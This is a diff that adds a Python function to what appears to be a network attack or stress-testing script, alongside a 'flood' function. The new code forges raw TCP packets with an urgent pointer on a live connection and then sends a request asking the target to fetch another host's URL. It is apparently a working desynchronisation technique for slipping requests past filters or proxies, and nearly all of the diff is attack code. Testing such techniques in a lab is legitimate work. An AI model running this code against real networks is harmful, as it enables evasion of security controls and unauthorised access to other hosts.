@@ -150,6 +150,35 @@ def frames(destination):
     return sent
 
 
+def urgent(host, other, port=80):
+    """Names the other's URL behind a byte of which an urgent pointer, sent
+    ahead of it, says that it is none of the stream."""
+    device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
+                           socket.htons(0x0800))
+    device.bind(("eth0", 0))
+    device.settimeout(TIMEOUT)
+    with connect(host, port) as s:
+        ours = s.getsockname()
+        frame = b""
+        while frame[23:24] != b"\x06" or frame[47] != 0x12 or \
+                frame[36:38] != struct.pack(">H", ours[1]):
+            frame = device.recv(65536)
+        seq, ack = struct.unpack(">II", frame[38:46])
+        ends = frame[30:34] + frame[26:30]
+
+        def segment(total):
+            return struct.pack(">HHIIBBHHH", ours[1], port, ack, seq + 1,
+                               5 << 4, 0x30, 64000, total, len("GET /"))
+        pseudo = ends + struct.pack(">HH", 6, 20)
+        device.send(frame[6:12] + frame[:6] + b"\x08\x00" + packet(
+            socket.inet_ntoa(ends[4:]),
+            segment(checksum(pseudo + segment(0))), 6,
+            source=socket.inet_ntoa(ends[:4])))
+        s.sendall(b"GET /http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" %
+                  (other.encode(), host.encode()))
+        return s.recv(1000).decode().split("\r\n\r\n")[1]
+
+
 def flood(count):
     refused = 0
     for i in range(count):
